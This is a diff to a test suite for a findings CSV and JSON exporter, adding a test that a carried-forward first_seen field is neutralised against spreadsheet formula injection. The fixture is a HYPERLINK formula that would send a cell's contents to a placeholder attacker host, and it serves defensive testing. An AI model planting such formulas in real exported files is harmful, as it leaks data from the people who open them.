@@ -136,6 +136,12 @@ describe("the findings CSV and JSON", () => {
     })
   })
 
+  it("neutralises first_seen, carried forward from a previous report that can be edited", async () => {
+    // Checked when the previous report is read (FirstSeen.ts); guarded here all the same.
+    const paths = await write([finding({ firstSeen: '=HYPERLINK("http://evil.example/?x="&B2,"click")' })])
+    expect(readCsv(paths.csv)[0]?.first_seen).toBe('\'=HYPERLINK("http://evil.example/?x="&B2,"click")')
+  })
+
   it("reads back a neutralised cell as it was, and keeps a quote that begins the text itself", () => {
     for (const text of ["=1+1", "+1", "-2", "@x", "\tx", "\uff1d1", "'Brien", "'", "Ada", "'=1", "''-x", "'@"]) {
       expect(unneutraliseFormula(neutraliseFormula(text))).toBe(text)
